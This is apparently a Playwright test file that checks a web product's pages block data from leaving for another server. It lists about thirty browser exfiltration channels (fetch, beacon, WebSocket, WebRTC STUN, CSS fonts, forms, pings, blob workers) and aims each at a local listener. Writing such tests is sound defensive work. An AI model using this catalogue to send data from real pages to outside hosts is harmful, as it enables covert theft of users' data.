// Every way out of a page that we know of, tried from the product's own page once it is ready, towards a
// second server on this machine. Each is first tried from a page without any defence, and must arrive
// there: a channel that never arrives proves nothing.
import dgram from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';

test.use({ serviceWorkers: 'allow' });

/** A server that takes everything and remembers it; and a port for datagrams. */
class Listener {
  readonly heard = new Set<string>();
  private readonly server: Server;
  private readonly datagrams = dgram.createSocket('udp4');

  constructor() {
    const hear = (url = '') => {
      const way = /\/leak\/([\w-]+)/.exec(url)?.[1];
      if (way) this.heard.add(way);
    };
    this.server = createServer((request, response) => {
      hear(request.url);
      request.resume();
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' });
      response.end(request.url === '/' ? '<!doctype html><title>No defence</title><body>' : '');
    });
    this.server.on('upgrade', (request, socket) => {
      hear(request.url);
      socket.destroy();
    });
    // What looks for a path between two machines sends a binding request to whom it was told (RFC 8489).
    this.datagrams.on('message', () => this.heard.add('webrtc'));
  }

  async start(): Promise<void> {
    await Promise.all([
      new Promise<void>((up) => this.server.listen(0, '127.0.0.1', up)),
      new Promise<void>((up) => this.datagrams.bind(0, '127.0.0.1', up)),
    ]);
  }

  get origin(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  get udp(): number {
    return this.datagrams.address().port;
  }

  stop(): void {
    this.server.closeAllConnections();
    this.server.close();
    this.datagrams.close();
  }
}

interface Target {
  /** Where this way is to arrive. */
  readonly url: string;
  readonly udp: number;
}

type Way = (to: Target) => unknown;

/** An element with attributes, put into the page. */
declare function put(tag: string, attributes: Record<string, string>): HTMLElement;

/** Of the page itself. Each runs in a page of its own, since some leave it. */
const WAYS: Record<string, Way> = {
  fetch: ({ url }) => fetch(url),
  'fetch-no-cors': ({ url }) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'row' }),
  'fetch-keepalive': ({ url }) =>
    fetch(url, { keepalive: true, method: 'POST', body: 'row', mode: 'no-cors' }),
  xhr: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: ({ url }) => navigator.sendBeacon(url, 'row'),
  websocket: ({ url }) => new WebSocket(url.replace('http', 'ws')),
  eventsource: ({ url }) => new EventSource(url),
  webrtc: async ({ udp }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
  },
  image: ({ url }) => {
    new Image().src = url;
  },
  script: ({ url }) => put('script', { src: url }),
  import: ({ url }) => import(url),
  stylesheet: ({ url }) => put('link', { rel: 'stylesheet', href: url }),
  'css-url': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url(${url}) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'css-font': async ({ url }) => {
    const face = new FontFace('leak', `url(${url})`);
    document.fonts.add(face);
    await face.load();
  },
  preload: ({ url }) => put('link', { rel: 'preload', as: 'image', href: url }),
  prefetch: ({ url }) => put('link', { rel: 'prefetch', href: url }),
  modulepreload: ({ url }) => put('link', { rel: 'modulepreload', href: url }),
  frame: ({ url }) => put('iframe', { src: url }),
  object: ({ url }) => put('object', { data: url, type: 'text/html' }),
  embed: ({ url }) => put('embed', { src: url, type: 'text/html' }),
  media: ({ url }) => put('video', { src: url, preload: 'auto' }),
  'svg-image': ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  form: ({ url }) => {
    const form = put('form', { action: url, method: 'post' }) as HTMLFormElement;
    form.submit();
  },
  open: ({ url }) => window.open(url),
  navigation: ({ url }) => {
    location.href = url;
  },
  link: ({ url }) => put('a', { href: url, target: '_blank' }).click(),
  ping: ({ url }) => put('a', { href: '#', ping: url }).click(),
  refresh: ({ url }) => put('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }),
  'blob-worker': ({ url }) => new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
};

/** What takes the page elsewhere is asked before it goes; everything else is given this long. */
const LONG_ENOUGH_MS = 1200;

async function attempt(page: Page, name: string, listener: Listener): Promise<void> {
  const way = WAYS[name];
  const script = `(async () => {
    const put = (tag, attributes) => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      return element;
    };
    try { await (${way})(${JSON.stringify({ url: `${listener.origin}/leak/${name}`, udp: listener.udp })}); } catch {}
  })()`;
  // A way that leaves takes its answer with it.
  await Promise.race([page.evaluate(script).catch(() => undefined), page.waitForTimeout(2500)]);
  await page.waitForTimeout(LONG_ENOUGH_MS);
}

/** So many pages at once: what one does takes the others nothing. */
const AT_ONCE = 6;

/** Tries every way, each in a page of its own that `open` has brought to where it is tried. */
async function attemptAll(
  context: BrowserContext,
  listener: Listener,
  open: (page: Page) => Promise<unknown>,
): Promise<void> {
  const names = Object.keys(WAYS);
  const work = async () => {
    for (let name = names.shift(); name !== undefined; name = names.shift()) {
      const page = await context.newPage();
      await open(page);
      await attempt(page, name, listener);
      await page.close();
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
}

test.describe('ways out of the page', () => {
  let listener: Listener;
  test.beforeEach(async () => {
    listener = new Listener();
    await listener.start();
  });
  test.afterEach(() => listener.stop());

  test('arrive from a page without a defence, each of them', async ({ context }) => {
    await attemptAll(context, listener, (page) => page.goto(`${listener.origin}/`));
    expect([...listener.heard].sort()).toEqual(Object.keys(WAYS).sort());
  });

  for (const address of ['/', '/embed/']) {
    test(`arrive from the product’s page at ${address}, none of them`, async ({ context }) => {
      await attemptAll(context, listener, async (page) => {
        await page.goto(address);
        await expect(page.locator('.chip:not(.waiting)')).toBeVisible({ timeout: 60_000 });
      });
      expect([...listener.heard]).toEqual([]);
    });
  }
});
